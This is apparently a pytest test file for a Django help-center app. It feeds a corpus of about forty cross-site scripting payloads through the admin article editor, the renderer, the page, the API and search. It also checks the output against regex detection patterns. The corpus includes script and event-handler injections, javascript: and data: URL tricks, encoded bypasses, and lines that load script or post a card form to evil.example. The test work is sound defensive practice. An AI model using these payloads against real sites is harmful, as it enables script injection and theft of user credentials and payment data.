"""Whatever an admin pastes into an article, no script reaches a page: an XSS corpus through the
admin-edited source path (the database body → render → page and API)."""

from __future__ import annotations

import re

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from shopdesk.helpcenter.models import Article
from shopdesk.helpcenter.rendering import ALLOWED_TAGS, render_source
from shopdesk.policy import get_policy
from tests.html import only_package_scripts

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=card><button>Pay</button></form>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="https://ok.example" onclick="alert(1)">click</a>',
    '<a href="https://ok.example" onmouseover=alert(1)>hover</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[click](<javascript:alert(1)>)",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width: expression(alert(1))">x</p>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<a href="https://ok.example" target="_blank" formaction="javascript:alert(1)">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "{{ '<script>alert(1)</script>' }}",
    "<!--<script>alert(1)</script>-->",
]

_DANGEROUS = [
    re.compile(
        r"<\s*(script|iframe|object|embed|form|input|style|link|meta|base|svg|math|img|video|source|details|body|noscript)\b",
        re.I,
    ),
    re.compile(r"\son[a-z]+\s*=", re.I),
    re.compile(r"(javascript|vbscript|data)\s*:", re.I),
    re.compile(r"\sstyle\s*=", re.I),
    re.compile(r"\s(srcdoc|formaction)\s*=", re.I),
]


_TAG = re.compile(r"<[^>]*>")


def _assert_safe(html: str, payload: str, allowed_tags: set[str] = ALLOWED_TAGS) -> None:
    # Text is escaped, so "javascript:" shown as words is harmless: only what is inside tags can run.
    tags = " ".join(_TAG.findall(html))
    for pattern in _DANGEROUS:
        match = pattern.search(tags)
        assert match is None, f"{payload!r} left {match.group(0)!r} in {html!r}"
    assert set(re.findall(r"<\s*([a-z0-9]+)", html, re.I)) <= allowed_tags, html


def test_the_corpus_is_big_enough() -> None:
    assert len(XSS_CORPUS) >= 30


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_renderer_strips_the_payload(payload: str) -> None:
    _assert_safe(render_source(f"Intro.\n\n{payload}\n\nOutro.", get_policy()).html, payload)


@pytest.mark.django_db
@pytest.mark.usefixtures("help_content")
def test_payloads_saved_in_the_admin_never_reach_the_page_or_the_api() -> None:
    editor = get_user_model().objects.create_superuser("editor", "editor@example.com", "pw")
    admin = Client()
    admin.force_login(editor)
    article = Article.objects.get(slug="about-us")
    body = "Safe text.\n\n" + "\n\n".join(XSS_CORPUS) + "\n\n[Our policy](/help/articles/return-policy/)"
    form = {
        "title": article.title,
        "slug": article.slug,
        "category": article.category_id,
        "seed": article.seed,
        "keywords": "",
        "body": body,
        "position": 5,
        "is_published": "on",
        "revisions-TOTAL_FORMS": 0,
        "revisions-INITIAL_FORMS": 0,
        "revisions-MIN_NUM_FORMS": 0,
        "revisions-MAX_NUM_FORMS": 1000,
    }
    response = admin.post(f"/admin/helpcenter/article/{article.pk}/change/", form)
    assert response.status_code == 302
    article.refresh_from_db()
    assert article.body.replace("\r\n", "\n") == body, "the source is stored as typed"

    client = Client()
    page = client.get("/help/articles/about-us/").content.decode()
    rendered = page.split('<div class="help-body">', 1)[1].split("</div>", 1)[0]
    for payload in XSS_CORPUS:
        _assert_safe(rendered, payload)
    assert 'href="/help/articles/return-policy/"' in rendered, "safe relative links survive"
    assert only_package_scripts(page), "the page itself has no script but the package's files"
    api_html = client.get("/api/v1/help/articles/about-us").json()["html"]
    _assert_safe(api_html, "api")
    search = client.get("/help/search/", {"q": "alert onerror script"}).content.decode()
    results = search.split('<ol class="help-results"', 1)[1].split("</ol>", 1)[0]
    assert "<mark>" in results
    _assert_safe(results.split(">", 1)[1], "search snippet", {"li", "h2", "a", "p", "mark"})


def test_safe_markdown_survives_sanitising() -> None:
    html = render_source(
        "# Title\n\n**bold** [mail](mailto:care@example.com) [site](https://example.com)\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        get_policy(),
    ).html
    assert "<h2>Title</h2>" in html and "<strong>bold</strong>" in html
    assert 'href="mailto:care@example.com"' in html and 'href="https://example.com"' in html
    assert "<table>" in html and "<td>1</td>" in html
